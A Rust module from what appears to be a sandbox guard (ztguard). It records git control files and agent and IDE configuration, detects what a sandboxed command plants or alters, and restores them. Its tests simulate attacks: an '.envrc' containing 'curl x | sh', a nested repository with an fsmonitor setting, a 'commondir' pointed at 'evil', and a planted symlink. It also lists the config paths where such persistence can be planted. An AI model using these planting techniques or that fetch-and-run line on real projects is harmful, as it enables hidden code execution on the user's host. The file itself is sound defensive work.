//! The host's configuration a sandboxed command could leave behind for the
//! host to run later: git's control files (`.git/commondir`, a
//! `config.worktree`, a new repository anywhere in the project), and the
//! project's agent, IDE and tool configuration that did not exist when the
//! sandbox started (a path that does not exist cannot be bound read-only).
//!
//! [`HostConfig::take`] records it before the command starts (a `stat` of
//! each path, and the bytes of the small files, so that they can be put
//! back); [`HostConfig::changes`] compares the tree with that record
//! (`stat` first, the bytes only of what the `stat` says changed); and
//! [`HostConfig::undo`] puts every difference back: created paths removed
//! (kept aside for review), changed files rewritten byte for byte with
//! their modes, deleted ones recreated.
//!
//! Paths bound read-only inside the sandbox for its whole life are not
//! watched: the sandbox cannot have changed them, and a change there is
//! the host's own (an IDE saving its workspace while the agent runs).

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};

/// The project's configuration that the host's agents, IDEs and tools
/// run or obey, relative to the project: bound read-only where it exists,
/// watched where it does not.
pub const PROJECT_CONFIG: &[&str] = &[
    ".ztguard.toml",
    ".ztguard",
    ".claude",
    ".mcp.json",
    "CLAUDE.md",
    ".envrc",
    ".vscode",
    ".idea",
    ".cursor",
    ".codex",
    ".gemini",
    ".githooks",
    ".github/hooks",
    ".husky",
    ".pre-commit-config.yaml",
    ".gitleaks.toml",
    ".gitleaksignore",
    ".ztguardignore",
    ".cargo/config.toml",
    ".cargo/config",
    ".npmrc",
];

/// What ztguard itself writes in `.ztguard/` while a session runs (its
/// log, session state and ledger): not the sandbox's doing.
const OWN_RECORDS: &[&str] = &[
    "audit.jsonl",
    ".audit.jsonl",
    "sessions",
    "provenance.json",
    ".gitignore",
];

/// Directories not searched for new repositories (large, and not where
/// a human runs git).
const SKIP_DIRS: &[&str] = &["target", "node_modules", ".venv", "venv", "__pycache__"];

/// How many directory entries one look at the project may read before it
/// stops (and says so).
const WALK_LIMIT: usize = 200_000;
/// Files larger than this are compared by their `stat` and not kept:
/// configuration is small.
const MAX_KEPT: u64 = 1024 * 1024;
/// How deep a look goes.
const MAX_DEPTH: usize = 24;

/// One path as it was.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Entry {
    File {
        mode: u32,
        stat: Stat,
        /// The content, when small enough to keep.
        bytes: Option<Vec<u8>>,
    },
    Dir {
        mode: u32,
    },
    Link {
        target: PathBuf,
    },
    Other {
        stat: Stat,
    },
}

/// What a `stat` says changed: the change time cannot be set back by
/// the sandbox, so a rewrite with the old size and mtime still shows.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Stat {
    len: u64,
    ino: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

impl Stat {
    fn of(m: &std::fs::Metadata) -> Stat {
        Stat {
            len: m.len(),
            ino: m.ino(),
            mtime: (m.mtime(), m.mtime_nsec()),
            ctime: (m.ctime(), m.ctime_nsec()),
        }
    }
}

/// How a path differs from the record.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ChangeKind {
    Created,
    Changed,
    Deleted,
}

impl ChangeKind {
    /// The stable rule code of the audit record.
    pub fn rule(self) -> &'static str {
        match self {
            ChangeKind::Created => "sandbox.host_config.created",
            ChangeKind::Changed => "sandbox.host_config.changed",
            ChangeKind::Deleted => "sandbox.host_config.deleted",
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            ChangeKind::Created => "created",
            ChangeKind::Changed => "changed",
            ChangeKind::Deleted => "deleted",
        }
    }
}

/// One difference from the record.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Change {
    pub path: PathBuf,
    pub kind: ChangeKind,
}

/// What [`HostConfig::undo`] did about one change.
#[derive(Clone, Debug)]
pub struct Undone {
    pub change: Change,
    /// Where the sandbox's version was put for review, if it was kept.
    pub kept: Option<PathBuf>,
    /// Why it could not be put back, if it could not.
    pub error: Option<String>,
}

/// The record of the host's configuration before the command started.
#[derive(Debug)]
pub struct HostConfig {
    project: PathBuf,
    /// Paths bound read-only for the sandbox's whole life: not watched.
    bound: Vec<PathBuf>,
    /// Every watched root, as found then (absent ones included).
    roots: BTreeSet<PathBuf>,
    entries: BTreeMap<PathBuf, Entry>,
    /// Every `.git` (directory or file) in the project then.
    repositories: BTreeSet<PathBuf>,
    /// The look at the project stopped before its end.
    pub cut_short: bool,
}

impl HostConfig {
    /// Record the project's configuration now. `bound`: the paths the
    /// sandbox gets read-only (nothing, when the kernel cannot bind).
    pub fn take(project: &Path, bound: &[PathBuf]) -> HostConfig {
        let (repositories, cut_short) = repositories(project);
        let mut h = HostConfig {
            project: project.to_path_buf(),
            bound: bound.to_vec(),
            roots: BTreeSet::new(),
            entries: BTreeMap::new(),
            repositories,
            cut_short,
        };
        h.roots = h.watched_roots(&h.repositories);
        let mut entries = BTreeMap::new();
        for r in &h.roots {
            look(r, true, &mut entries);
        }
        entries.retain(|p, _| !h.ignored(p));
        h.entries = entries;
        h
    }

    /// How many paths are recorded.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Every difference between the tree now and the record.
    pub fn changes(&self) -> Vec<Change> {
        let (now_repos, _) = repositories(&self.project);
        let mut roots = self.roots.clone();
        roots.extend(self.watched_roots(&now_repos));
        let mut now = BTreeMap::new();
        for r in &roots {
            look(r, false, &mut now);
        }
        now.retain(|p, _| !self.ignored(p));
        let mut raw: BTreeMap<PathBuf, ChangeKind> = BTreeMap::new();
        for repo in now_repos.difference(&self.repositories) {
            if !self.is_bound(repo) {
                raw.insert(repo.clone(), ChangeKind::Created);
            }
        }
        for (path, entry) in &now {
            match self.entries.get(path) {
                None => {
                    raw.insert(path.clone(), ChangeKind::Created);
                }
                Some(old) if differs(old, entry, path) => {
                    raw.insert(path.clone(), ChangeKind::Changed);
                }
                Some(_) => {}
            }
        }
        for path in self.entries.keys() {
            if !now.contains_key(path) {
                raw.insert(path.clone(), ChangeKind::Deleted);
            }
        }
        // A path created or deleted as a whole stands for what is beneath it.
        let mut out: Vec<Change> = Vec::new();
        for (path, kind) in raw {
            let beneath = out.iter().any(|c: &Change| {
                c.kind != ChangeKind::Changed && path.starts_with(&c.path) && path != c.path
            });
            if !beneath {
                out.push(Change { path, kind });
            }
        }
        out.sort_by(|a, b| a.path.cmp(&b.path));
        out
    }

    /// Put back every change: a created path is moved into `keep` (or
    /// removed, where it cannot be moved), a changed file is kept there
    /// and rewritten as recorded, a deleted one recreated. Paths reached
    /// through a symbolic link the sandbox could have planted are left
    /// alone and reported.
    pub fn undo(&self, changes: &[Change], keep: &Path) -> Vec<Undone> {
        changes
            .iter()
            .map(|c| {
                let (kept, error) = match self.undo_one(c, keep) {
                    Ok(kept) => (kept, None),
                    Err(e) => (None, Some(e)),
                };
                Undone {
                    change: c.clone(),
                    kept,
                    error,
                }
            })
            .collect()
    }

    fn undo_one(&self, c: &Change, keep: &Path) -> Result<Option<PathBuf>, String> {
        let rel = c
            .path
            .strip_prefix(&self.project)
            .map_err(|_| format!("{} is outside the project", c.path.display()))?;
        linkless(&self.project, rel)?;
        let io = |e: std::io::Error| format!("{}: {e}", c.path.display());
        let aside = keep.join(rel);
        if let (ChangeKind::Changed, Some(Entry::Dir { mode })) =
            (c.kind, self.entries.get(&c.path))
            && std::fs::symlink_metadata(&c.path).is_ok_and(|m| m.is_dir())
        {
            std::fs::set_permissions(&c.path, std::fs::Permissions::from_mode(*mode))
                .map_err(io)?;
            return Ok(None);
        }
        let kept = match c.kind {
            ChangeKind::Deleted => None,
            _ => put_aside(&c.path, &aside).map_err(io)?,
        };
        if c.kind == ChangeKind::Created {
            return Ok(kept);
        }
        // Recreate what was recorded, parents first (a deleted tree).
        for (p, entry) in self.entries.range(c.path.clone()..) {
            if !p.starts_with(&c.path) {
                break;
            }
            if c.kind == ChangeKind::Changed && p != &c.path {
                // A changed directory keeps its entries: only its mode.
                break;
            }
            restore(p, entry).map_err(|e| format!("{}: {e}", p.display()))?;
        }
        Ok(kept)
    }

    fn is_bound(&self, p: &Path) -> bool {
        self.bound.iter().any(|b| p.starts_with(b))
    }

    /// Not watched: bound read-only, or a record ztguard keeps in `.ztguard/`.
    fn ignored(&self, p: &Path) -> bool {
        self.is_bound(p)
            || p.strip_prefix(self.project.join(".ztguard"))
                .ok()
                .and_then(|rest| rest.components().next())
                .is_some_and(|first| {
                    let name = first.as_os_str().to_string_lossy();
                    OWN_RECORDS.iter().any(|o| name.starts_with(o))
                })
    }

    /// The roots watched for these repositories: the project's
    /// configuration and each repository's control files, absent ones
    /// included, minus what is bound read-only.
    fn watched_roots(&self, repos: &BTreeSet<PathBuf>) -> BTreeSet<PathBuf> {
        let mut roots: BTreeSet<PathBuf> = PROJECT_CONFIG
            .iter()
            .map(|p| self.project.join(p))
            .collect();
        let top = self.project.join(".git");
        if !top.is_dir() {
            roots.insert(top.clone());
        }
        for repo in repos.iter().chain(std::iter::once(&top)) {
            if repo.is_dir() {
                control_files(repo, 0, &mut roots);
            }
        }
        roots.into_iter().filter(|r| !self.ignored(r)).collect()
    }
}

/// The files of a git directory that decide what git runs: its config
/// (every `config*`), where it takes its common directory and work tree
/// from, its hooks and `info/`, and the same for every submodule and
/// linked work tree in it.
fn control_files(git: &Path, depth: usize, roots: &mut BTreeSet<PathBuf>) {
    for name in [
        "config",
        "config.worktree",
        "commondir",
        "gitdir",
        "hooks",
        "info",
    ] {
        roots.insert(git.join(name));
    }
    if let Ok(entries) = std::fs::read_dir(git) {
        for e in entries.flatten() {
            if e.file_name().to_string_lossy().starts_with("config") {
                roots.insert(e.path());
            }
        }
    }
    if depth >= 4 {
        return;
    }
    for sub in ["modules", "worktrees"] {
        let Ok(entries) = std::fs::read_dir(git.join(sub)) else {
            continue;
        };
        for e in entries.flatten() {
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                if sub == "worktrees" {
                    for name in ["commondir", "gitdir", "config.worktree", "config"] {
                        roots.insert(e.path().join(name));
                    }
                } else {
                    control_files(&e.path(), depth + 1, roots);
                }
            }
        }
    }
}

/// Every `.git` in the project (a directory or a file), and whether the
/// look stopped early.
fn repositories(project: &Path) -> (BTreeSet<PathBuf>, bool) {
    let mut found = BTreeSet::new();
    let mut seen = 0usize;
    let mut stack = vec![(project.to_path_buf(), 0usize)];
    while let Some((dir, depth)) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for e in entries.flatten() {
            seen += 1;
            if seen > WALK_LIMIT {
                return (found, true);
            }
            let name = e.file_name();
            if name == ".git" {
                found.insert(e.path());
                continue;
            }
            let skip = name.to_str().is_some_and(|n| SKIP_DIRS.contains(&n));
            if !skip && depth < MAX_DEPTH && e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push((e.path(), depth + 1));
            }
        }
    }
    (found, false)
}

/// Names of configuration the host's tools run or load from whatever
/// directory they work in (a cargo build in a crate of the project reads
/// its `.cargo/config.toml`; git in any directory under a `.git` uses it).
/// Created or changed anywhere in the project during a run, they are put
/// aside like the project's own (see [`HostConfig::planted`]).
pub const HOST_RUN_NAMES: &[&str] = &[
    ".git",
    ".envrc",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    ".cargo",
    ".vscode",
    ".idea",
    ".devcontainer",
    ".mcp.json",
    ".claude",
    ".husky",
    ".githooks",
    ".pre-commit-config.yaml",
    "rust-toolchain",
    "rust-toolchain.toml",
    ".bazelrc",
];

/// How many entries the look for planted configuration reads at most.
const PLANTED_LIMIT: usize = 1_000_000;

/// Is `dir` shaped like a git directory (git takes such a directory as a
/// repository whatever its name)?
fn repository_shaped(dir: &Path) -> bool {
    dir.join("HEAD").is_file() && dir.join("objects").is_dir() && dir.join("refs").is_dir()
}

impl HostConfig {
    /// Configuration created or changed during the run anywhere in the
    /// project, beyond the watched paths: an entry of [`HOST_RUN_NAMES`] or
    /// a directory shaped like a git directory, whose status changed at or
    /// after `since`. Only directories whose status changed since then are
    /// entered (creating, removing or renaming an entry changes its
    /// directory's, and no one can set it back), so the look costs what the
    /// run changed, with no directory skipped. The flag: it stopped early.
    pub fn planted(&self, since: std::time::SystemTime) -> (Vec<Change>, bool) {
        let since = since
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| (d.as_secs() as i64, i64::from(d.subsec_nanos())))
            .unwrap_or((0, 0));
        let changed_since = |m: &std::fs::Metadata| (m.ctime(), m.ctime_nsec()) >= since;
        let own_git = self.project.join(".git");
        let mut out = Vec::new();
        let mut seen = 0usize;
        let mut stack = vec![self.project.clone()];
        while let Some(dir) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            for e in entries.flatten() {
                seen += 1;
                if seen > PLANTED_LIMIT {
                    return (out, true);
                }
                let path = e.path();
                if path.starts_with(&own_git)
                    || self.repositories.iter().any(|r| path.starts_with(r))
                    || self.is_bound(&path)
                    || self.ignored(&path)
                {
                    continue;
                }
                let Ok(meta) = std::fs::symlink_metadata(&path) else {
                    continue;
                };
                if !changed_since(&meta) {
                    continue;
                }
                let name = e.file_name();
                let named = name.to_str().is_some_and(|n| HOST_RUN_NAMES.contains(&n));
                let is_dir = meta.is_dir();
                if named || (is_dir && repository_shaped(&path)) {
                    // The watched ones are `changes`' to judge.
                    if !self.roots.contains(&path) {
                        out.push(Change {
                            path,
                            kind: ChangeKind::Created,
                        });
                    }
                    continue;
                }
                if is_dir {
                    stack.push(path);
                }
            }
        }
        out.sort_by(|a, b| a.path.cmp(&b.path));
        (out, false)
    }
}

/// Record `path` and everything beneath it (without following links);
/// with `keep`, the bytes of small files too.
fn look(path: &Path, keep: bool, out: &mut BTreeMap<PathBuf, Entry>) {
    let mut stack = vec![(path.to_path_buf(), 0usize)];
    while let Some((p, depth)) = stack.pop() {
        let Ok(meta) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        let mode = meta.mode() & 0o7777;
        let t = meta.file_type();
        let entry = if t.is_symlink() {
            Entry::Link {
                target: std::fs::read_link(&p).unwrap_or_default(),
            }
        } else if t.is_dir() {
            if depth < MAX_DEPTH
                && let Ok(entries) = std::fs::read_dir(&p)
            {
                for e in entries.flatten().take(WALK_LIMIT) {
                    stack.push((e.path(), depth + 1));
                }
            }
            Entry::Dir { mode }
        } else if t.is_file() {
            Entry::File {
                mode,
                stat: Stat::of(&meta),
                bytes: (keep && meta.len() <= MAX_KEPT)
                    .then(|| std::fs::read(&p).ok())
                    .flatten(),
            }
        } else {
            Entry::Other {
                stat: Stat::of(&meta),
            }
        };
        out.insert(p, entry);
    }
}

/// Does `now` (a bare `stat`) differ from `old`? Where the `stat` says
/// the content may have changed, the bytes decide.
fn differs(old: &Entry, now: &Entry, path: &Path) -> bool {
    match (old, now) {
        (
            Entry::File {
                mode: m0,
                stat: s0,
                bytes,
            },
            Entry::File {
                mode: m1, stat: s1, ..
            },
        ) => {
            if m0 != m1 || s0.len != s1.len {
                return true;
            }
            if s0 == s1 {
                return false;
            }
            match bytes {
                Some(b) => std::fs::read(path).map_or(true, |now| &now != b),
                None => true,
            }
        }
        (Entry::Dir { mode: m0 }, Entry::Dir { mode: m1 }) => m0 != m1,
        (Entry::Link { target: t0 }, Entry::Link { target: t1 }) => t0 != t1,
        (Entry::Other { stat: s0 }, Entry::Other { stat: s1 }) => s0.ino != s1.ino,
        _ => true,
    }
}

/// Refuse a path under `root` reached through a symbolic link: the
/// sandbox could have put one there to turn a restore into a write
/// elsewhere.
fn linkless(root: &Path, rel: &Path) -> Result<(), String> {
    let mut p = root.to_path_buf();
    let parts: Vec<_> = rel.components().collect();
    for c in parts.iter().take(parts.len().saturating_sub(1)) {
        p.push(c);
        match std::fs::symlink_metadata(&p) {
            Ok(m) if m.file_type().is_symlink() => {
                return Err(format!(
                    "{} is a symbolic link: not followed to put back what is beneath it",
                    p.display()
                ));
            }
            _ => {}
        }
    }
    Ok(())
}

/// Move what is at `path` to `aside` (for review), or remove it where it
/// cannot be moved there. Where it was kept, if it was.
fn put_aside(path: &Path, aside: &Path) -> std::io::Result<Option<PathBuf>> {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return Ok(None);
    };
    if let Some(parent) = aside.parent()
        && std::fs::create_dir_all(parent).is_ok()
        && std::fs::rename(path, aside).is_ok()
    {
        return Ok(Some(aside.to_path_buf()));
    }
    // Another file system: copy a small file, drop the rest.
    let mut kept = None;
    if meta.is_file() && meta.len() <= MAX_KEPT && std::fs::copy(path, aside).is_ok() {
        kept = Some(aside.to_path_buf());
    }
    if meta.is_dir() {
        std::fs::remove_dir_all(path)?;
    } else {
        std::fs::remove_file(path)?;
    }
    Ok(kept)
}

/// Recreate one recorded path (nothing is there now, or a directory
/// whose mode is to be put back).
fn restore(path: &Path, entry: &Entry) -> std::io::Result<()> {
    match entry {
        Entry::Dir { mode } => {
            if !path.is_dir() {
                std::fs::create_dir(path)?;
            }
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode))
        }
        Entry::File {
            mode,
            bytes: Some(bytes),
            ..
        } => {
            let mut f = std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .mode(0o600)
                .open(path)?;
            f.write_all(bytes)?;
            f.set_permissions(std::fs::Permissions::from_mode(*mode))
        }
        Entry::File { bytes: None, .. } => Err(std::io::Error::other(
            "larger than the 1 MiB kept: not put back",
        )),
        Entry::Link { target } => std::os::unix::fs::symlink(target, path),
        Entry::Other { .. } => Err(std::io::Error::other(
            "not a file, directory or link: not put back",
        )),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;

    fn project() -> (tempfile::TempDir, PathBuf) {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().canonicalize().unwrap();
        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
        std::fs::write(p.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(p.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(p.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(
            p.join(".git/hooks/pre-commit.sample"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        std::fs::write(p.join("main.rs"), "fn main() {}\n").unwrap();
        (d, p)
    }

    #[test]
    fn nothing_changed_is_no_change() {
        let (_d, p) = project();
        let h = HostConfig::take(&p, &[]);
        std::fs::write(p.join("main.rs"), "changed source is not config\n").unwrap();
        std::fs::write(p.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
        assert_eq!(h.changes(), vec![]);
    }

    #[test]
    fn every_kind_of_change_is_found_and_put_back() {
        let (_d, p) = project();
        let keep = tempfile::tempdir().unwrap();
        let h = HostConfig::take(&p, &[]);
        // commondir, a rewritten config of the same size, a hook's mode,
        // a deleted hook, a new repository, new project config.
        std::fs::write(p.join(".git/commondir"), "evil\n").unwrap();
        std::fs::write(p.join(".git/config"), "[xxxx]\n").unwrap();
        std::fs::remove_file(p.join(".git/hooks/pre-commit.sample")).unwrap();
        std::fs::create_dir_all(p.join("sub/.git")).unwrap();
        std::fs::write(p.join("sub/.git/config"), "[core]\n\tfsmonitor = x\n").unwrap();
        std::fs::write(p.join("deep.git"), "not a repository\n").unwrap();
        std::fs::create_dir_all(p.join(".vscode")).unwrap();
        std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
        std::fs::write(p.join(".envrc"), "curl x | sh\n").unwrap();
        let changes = h.changes();
        let got: Vec<(String, ChangeKind)> = changes
            .iter()
            .map(|c| {
                (
                    c.path.strip_prefix(&p).unwrap().display().to_string(),
                    c.kind,
                )
            })
            .collect();
        assert_eq!(
            got,
            vec![
                (".envrc".into(), ChangeKind::Created),
                (".git/commondir".into(), ChangeKind::Created),
                (".git/config".into(), ChangeKind::Changed),
                (".git/hooks/pre-commit.sample".into(), ChangeKind::Deleted),
                (".vscode".into(), ChangeKind::Created),
                ("sub/.git".into(), ChangeKind::Created),
            ]
        );
        let undone = h.undo(&changes, keep.path());
        assert!(undone.iter().all(|u| u.error.is_none()), "{undone:?}");
        assert_eq!(h.changes(), vec![]);
        assert_eq!(
            std::fs::read_to_string(p.join(".git/config")).unwrap(),
            "[core]\n"
        );
        let hook = p.join(".git/hooks/pre-commit.sample");
        assert_eq!(std::fs::metadata(&hook).unwrap().mode() & 0o777, 0o755);
        assert!(!p.join(".vscode").exists() && !p.join("sub/.git").exists());
        // The sandbox's versions are kept for review.
        assert_eq!(
            std::fs::read_to_string(keep.path().join(".git/commondir")).unwrap(),
            "evil\n"
        );
        assert!(keep.path().join("sub/.git/config").exists());
    }

    #[test]
    fn a_rewrite_that_keeps_size_and_mtime_is_still_seen() {
        let (_d, p) = project();
        let h = HostConfig::take(&p, &[]);
        let config = p.join(".git/config");
        let before = std::fs::metadata(&config).unwrap().modified().unwrap();
        std::fs::write(&config, "[xore]\n").unwrap();
        std::fs::File::options()
            .write(true)
            .open(&config)
            .unwrap()
            .set_modified(before)
            .unwrap();
        assert_eq!(h.changes().len(), 1);
    }

    #[test]
    fn bound_paths_and_ztguards_own_records_are_not_watched() {
        let (_d, p) = project();
        std::fs::create_dir_all(p.join(".ztguard")).unwrap();
        std::fs::create_dir_all(p.join(".idea")).unwrap();
        let h = HostConfig::take(&p, &[p.join(".idea"), p.join(".git/config")]);
        std::fs::write(p.join(".idea/workspace.xml"), "<saved by the IDE/>").unwrap();
        std::fs::write(p.join(".git/config"), "[remote]\n").unwrap();
        std::fs::write(p.join(".ztguard/audit.jsonl"), "{}\n").unwrap();
        std::fs::write(p.join(".ztguard/audit.jsonl.1"), "{}\n").unwrap();
        std::fs::create_dir_all(p.join(".ztguard/sessions")).unwrap();
        std::fs::write(p.join(".ztguard/provenance.json"), "{}\n").unwrap();
        assert_eq!(h.changes(), vec![]);
        std::fs::write(p.join(".ztguard/baseline.json"), "{}\n").unwrap();
        assert_eq!(
            h.changes(),
            vec![Change {
                path: p.join(".ztguard/baseline.json"),
                kind: ChangeKind::Created
            }]
        );
    }

    #[test]
    fn submodules_and_worktrees_control_files_are_watched() {
        let (_d, p) = project();
        std::fs::create_dir_all(p.join(".git/modules/lib/hooks")).unwrap();
        std::fs::write(p.join(".git/modules/lib/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(p.join(".git/worktrees/wt")).unwrap();
        std::fs::write(p.join(".git/worktrees/wt/gitdir"), "/x/.git\n").unwrap();
        let h = HostConfig::take(&p, &[]);
        std::fs::write(p.join(".git/modules/lib/hooks/post-checkout"), "x").unwrap();
        std::fs::write(p.join(".git/modules/lib/config"), "[evil]\n").unwrap();
        std::fs::write(p.join(".git/worktrees/wt/commondir"), "../evil\n").unwrap();
        std::fs::write(p.join(".git/worktrees/wt/HEAD"), "ref: x\n").unwrap();
        let paths: Vec<PathBuf> = h.changes().into_iter().map(|c| c.path).collect();
        assert_eq!(
            paths,
            vec![
                p.join(".git/modules/lib/config"),
                p.join(".git/modules/lib/hooks/post-checkout"),
                p.join(".git/worktrees/wt/commondir"),
            ]
        );
    }

    #[test]
    fn a_planted_link_is_not_followed_when_putting_back() {
        let (_d, p) = project();
        let outside = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(p.join(".git/worktrees/wt")).unwrap();
        std::fs::write(p.join(".git/worktrees/wt/gitdir"), "/x/.git\n").unwrap();
        let h = HostConfig::take(&p, &[]);
        std::fs::rename(p.join(".git/worktrees"), p.join("moved")).unwrap();
        std::os::unix::fs::symlink(outside.path(), p.join(".git/worktrees")).unwrap();
        let changes = h.changes();
        let undone = h.undo(&changes, &p.join("kept"));
        assert!(
            std::fs::read_dir(outside.path()).unwrap().next().is_none(),
            "nothing written through the link"
        );
        assert!(undone.iter().any(|u| u.error.is_some()), "{undone:?}");
    }
}
